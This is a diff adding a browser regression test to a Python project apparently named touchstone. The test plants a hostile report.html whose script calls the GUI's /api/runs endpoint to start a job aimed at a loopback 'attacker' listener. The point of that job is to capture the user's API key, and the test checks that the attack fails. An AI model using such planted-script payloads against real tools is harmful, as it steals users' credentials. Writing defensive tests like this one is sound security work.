@@ -14,7 +14,7 @@ import pytest
 from touchstone.sim import SimServer
 
 from .conftest import coarse
-from .gui_support import LOW_CONTRAST_JS, gui_process, make_workspace, wait_for
+from .gui_support import GUI_API_KEY, LOW_CONTRAST_JS, gui_process, make_workspace, wait_for
 
 ARTIFACTS = Path(__file__).resolve().parent / "artifacts"
 CHROMIUM = "/usr/bin/chromium"
@@ -348,3 +348,88 @@ def test_judge_check_and_agreement_in_the_browser(tmp_path: Path, sim: SimServer
         )
         page.set_viewport_size({"width": 390, "height": 844})
         page.screenshot(path=str(ARTIFACTS / "judge-check-phone.png"), full_page=True)
+
+
+class Listener:
+    """A loopback HTTP server standing in for an attacker's: it records every request's
+    Authorization header and answers 404."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        self.authorizations: list[str] = []
+        heard = self.authorizations
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def _record(self) -> None:
+                heard.append(self.headers.get("Authorization") or "")
+                self.send_error(404)
+
+            do_GET = do_POST = _record
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/v1"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+# The attack of issue 21, as a shared run dir's report.html carries it: read the overview
+# for a pack path, then start a run job against the attacker's server from the GUI's origin.
+ATTACK_HTML = """<!DOCTYPE html><html><head><title>Bericht</title></head><body>
+<h1>Gefälschter Bericht</h1>
+<script>
+(async () => {
+  const home = await (await fetch("/")).text();
+  const pack = (home.match(/packs\\/[\\w.-]+\\.yaml/) || ["packs/tiny.yaml"])[0];
+  const reply = await fetch("/api/runs", {
+    method: "POST",
+    headers: {"Content-Type": "application/json"},
+    body: JSON.stringify({name: "gekapert", pack, base_url: "LISTENER",
+                          models: ["m"], variants: ["none"]}),
+  });
+  document.body.dataset.attack = String(reply.status);
+})();
+</script></body></html>
+"""
+
+
+def test_a_shared_run_dirs_report_html_cannot_start_a_job_with_the_users_key(
+    tmp_path: Path, sim: SimServer
+) -> None:
+    from playwright.sync_api import expect
+
+    workdir = make_workspace(tmp_path, sim)
+    listener = Listener()
+    run = workdir / "runs" / "tiny"
+    report = run / "report.html"
+    report.write_text(ATTACK_HTML.replace("LISTENER", listener.url), encoding="utf-8")
+    future = time.time() + 86_400  # "newer than the data": the GUI took it as current
+    os.utime(report, (future, future))
+    try:
+        with gui_process(workdir) as base, chromium() as browser:
+            page = browser.new_page()
+            page.goto(base + "/")
+            page.locator("tr", has_text="tiny").get_by_role("link", name="Bericht").click()
+            page.wait_for_load_state("load")
+            page.wait_for_timeout(1500)  # time for the script's two requests
+            started = (workdir / "runs" / "gekapert").exists()
+            # A started job reaches the listener only after its process is up: wait for it
+            # then, so that a failure shows what the attacker got.
+            if started:
+                wait_for(lambda: listener.authorizations, timeout=coarse(15))
+            assert not any(GUI_API_KEY in a for a in listener.authorizations)
+            assert not started and listener.authorizations == []
+            assert page.evaluate("document.body.dataset.attack") is None
+            # What the link shows is touchstone's own report of the run.
+            expect(page.locator("h1")).to_contain_text("touchstone-Bericht")
+            expect(page.locator("body")).not_to_contain_text("Gefälschter Bericht")
+            assert call(base, "/api/runs")[0]["name"] == "tiny"
+    finally:
+        listener.close()
